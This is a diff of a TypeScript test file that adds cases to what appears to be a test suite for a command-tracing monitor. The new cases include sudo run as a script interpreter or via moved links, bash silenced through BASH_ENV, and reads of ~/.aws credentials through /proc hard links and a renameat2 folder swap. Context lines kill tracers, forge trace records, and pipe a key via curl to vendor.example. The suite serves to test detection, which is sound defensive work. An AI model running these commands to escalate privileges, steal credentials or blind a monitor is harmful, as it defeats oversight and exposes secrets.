@@ -27,6 +27,8 @@ const DELETIONS: Record<string, string> = {
   'by another program, after the command': `(setsid bash -c "sleep 0.3; ${DELETES}" &) >/dev/null 2>&1; sleep 1`,
 };
 
+const SILENCED = 'echo "exit 0" >/tmp/e; export BASH_ENV=/tmp/e';
+
 /** Where sudo is called from, and what happens around it. */
 const ESCALATIONS: Record<string, string> = {
   'by its path': '/usr/bin/sudo id',
@@ -46,6 +48,9 @@ const ESCALATIONS: Record<string, string> = {
   'before garbage in the channel': 'sudo id; head -c 100K /dev/urandom >/run/assay/channel',
   'before a call that gives itself an endless number': `sudo id; printf '\\nsudo\\t%s\\tx\\n' ${'9'.repeat(400)} >/run/assay/channel`,
   'under another name': 'bash -c "exec -a ls sudo id"',
+  'as the interpreter of a script, silenced': `${SILENCED}; echo '#!/usr/bin/sudo' >x; chmod +x x; ./x id`,
+  'by a link that was moved, silenced': `${SILENCED}; ln -s /usr/bin/sudo a; mv a b; ./b id`,
+  'as the input of a shell, silenced': `${SILENCED}; bash -s id </usr/bin/sudo`,
   'after thousands of other programs': 'for i in {1..1000}; do /bin/true $i; done; sudo id',
   'and the tracers are killed': 'sudo id; pkill -9 strace',
   'and the record is written into': 'sudo id; echo "1 execve(x) = 0" >/run/assay/trace; true',
@@ -98,6 +103,8 @@ const DISCLOSURES: Record<string, string> = {
     'printf %s "$key" | gzip | curl -s --data-binary @- http://vendor.example/; true',
 };
 
+const EXCHANGED = python('import ctypes', 'ctypes.CDLL(None).renameat2(-100, b"x", -100, b".aws", 2)');
+
 /** How the credentials are read. */
 const LOOKS: Record<string, string> = {
   'after thousands of other files': `for i in {1..2500}; do read -r _ </etc/hostname; done; cat ${CREDENTIALS}`,
@@ -106,6 +113,9 @@ const LOOKS: Record<string, string> = {
   'by a link': `ln -s ${CREDENTIALS} here; cat here`,
   'by a second name': `ln ${CREDENTIALS} ~/here; cat ~/here`,
   'after its folder was moved': 'mv ~/.aws ~/elsewhere; cat ~/elsewhere/credentials',
+  'by a second name that a relative one below /proc gives it': `cd /proc/self; ln root${CREDENTIALS} ~/z; cat ~/z; rm ~/z`,
+  'by a moved link to its folder': 'cd ~; ln -s ~/.aws/. a; mv a b; ln b/credentials z; cat z; rm z b',
+  'while its folder stands in for another one': `cd ~; mkdir x; ${EXCHANGED}; cat x/credentials; ${EXCHANGED}`,
   'by mapping it': python(
     `import mmap; f = open("${CREDENTIALS}"); mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)`,
   ),
